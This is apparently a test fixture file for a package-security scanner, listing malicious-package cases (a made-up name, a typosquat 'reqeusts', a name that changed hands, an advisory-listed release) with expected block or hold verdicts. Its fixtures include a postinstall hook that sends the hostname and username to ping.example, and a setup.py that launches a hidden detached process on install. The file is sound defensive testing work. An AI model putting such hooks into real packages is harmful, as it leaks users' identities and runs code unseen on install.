import { advisory } from '../../support/advisory-fakes.ts'
import { npm, type PackageCase, pypi, sdist, tarball, wheel, YOUNG } from '../../support/package-case.ts'

const HOOK = `const os = require('os'); const https = require('https');
https.get('https://ping.example/?v=' + encodeURIComponent(os.hostname() + ' ' + os.userInfo().username));
`

/** Names that somebody else meant, had or made up. */
export const names: readonly PackageCase[] = [
  {
    id: 'a made-up name',
    incident:
      'slopsquatting, 2024 to 2026: a name that assistants make up is registered, with a hook that says who came',
    project: npm(
      'unused-imports',
      tarball(
        'unused-imports',
        '0.0.1',
        { 'index.js': 'module.exports = {};\n', 'hook.js': HOOK },
        { scripts: { postinstall: 'node hook.js' } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reports-home',
      text: /^On install, reads the host name and the user name and sends it to ping\.example/,
      steps: ['hook.js:2'],
    },
    // huggingface-cli, March 2024: 30,000 downloads of nothing. A name alone is told, and never stops.
    twin: pypi(
      'huggingface-cli',
      wheel('huggingface-cli', '0.0.1', {
        'huggingface_cli/__init__.py': '"""A placeholder. You most likely want huggingface_hub."""\n',
      }),
      { since: YOUNG },
    ),
  },
  {
    id: 'a name like another',
    incident:
      'typosquats of 2017 to 2026: a young package with a name like a popular one starts a program where nobody sees it',
    project: pypi(
      'reqeusts',
      sdist('reqeusts', '2.32.4', {
        'setup.py':
          'from setuptools import setup\nimport subprocess, sys\nsubprocess.Popen([sys.executable, "reqeusts/_post.py"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\nsetup(name="reqeusts", version="2.32.4", packages=["reqeusts"])\n',
        'reqeusts/__init__.py': 'def get(url):\n    return url\n',
        'reqeusts/_post.py': 'import platform\nprint(platform.node())\n',
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'impersonates',
      text: /^The name is like requests \(reqeusts .*\), the project is young, and/,
    },
    twin: pypi(
      'request-queue',
      wheel('request-queue', '0.1.0', {
        'request_queue/__init__.py': 'import collections\nclass Queue(collections.deque):\n    pass\n',
      }),
      { since: YOUNG },
    ),
  },
  {
    id: 'a name that changed hands',
    incident:
      'names reused, 2022 to 2026 (and of models on the Hub): everybody who may publish is new, after years, with a hook',
    project: npm(
      'left-table',
      {
        ...tarball(
          'left-table',
          '2.0.0',
          {
            'index.js': 'module.exports = (rows) => rows;\n',
            'setup.js': "require('fs').writeFileSync(require('path').join(__dirname, '.stamp'), String(Date.now()));\n",
          },
          {
            scripts: { postinstall: 'node setup.js' },
            _npmUser: { name: 'newcomer' },
            maintainers: [{ name: 'newcomer' }],
          },
        ),
      },
      {
        previous: {
          ...tarball(
            'left-table',
            '1.0.4',
            { 'index.js': 'module.exports = (rows) => rows;\n' },
            { _npmUser: { name: 'founder' }, maintainers: [{ name: 'founder' }] },
          ),
          published: '2019-06-01T00:00:00Z',
        },
        since: '2016-01-01T00:00:00Z',
      },
    ),
    expect: {
      verdict: 'hold',
      story: 'suspicious-release',
      text: /everybody who may publish is new: newcomer in place of founder/,
    },
    twin: npm(
      'left-table',
      {
        ...tarball(
          'left-table',
          '1.1.0',
          { 'index.js': 'module.exports = (rows) => rows.slice();\n' },
          { _npmUser: { name: 'colleague' }, maintainers: [{ name: 'founder' }, { name: 'colleague' }] },
        ),
      },
      {
        previous: tarball(
          'left-table',
          '1.0.4',
          { 'index.js': 'module.exports = (rows) => rows;\n' },
          { _npmUser: { name: 'founder' }, maintainers: [{ name: 'founder' }, { name: 'colleague' }] },
        ),
        since: '2016-01-01T00:00:00Z',
      },
    ),
  },
  {
    id: 'a release with a record',
    incident: 'a release that the records of malicious packages name, whatever its code does',
    project: pypi('colourama', wheel('colourama', '0.1.6', { 'colourama/__init__.py': 'RED = 31\n' }), {
      since: YOUNG,
      records: [
        advisory({
          id: 'MAL-2026-1',
          name: 'colourama',
          events: [{ introduced: '0' }],
          malicious: true,
          summary: 'Malicious code in colourama (PyPI)',
          sources: ['one', 'two'],
        }),
      ],
    }),
    expect: {
      verdict: 'block',
      story: 'known-malware',
      text: /^MAL-2026-1 names this release as malware: Malicious code in colourama/,
    },
    // The record of another version, beside a range of everything that contradicts it (ossf/malicious-packages#1254).
    twin: npm(
      '@mistralai/mistralai',
      tarball('@mistralai/mistralai', '2.2.5', { 'index.js': 'module.exports = {};\n' }, { main: 'index.js' }),
      {
        records: [
          advisory({
            id: 'MAL-2026-2',
            ecosystem: 'npm',
            name: '@mistralai/mistralai',
            versions: ['2.2.2', '2.2.3', '2.2.4'],
            events: [{ introduced: '0' }],
            malicious: true,
            published: '2026-05-12T00:00:00Z',
          }),
        ],
      },
    ),
  },
]
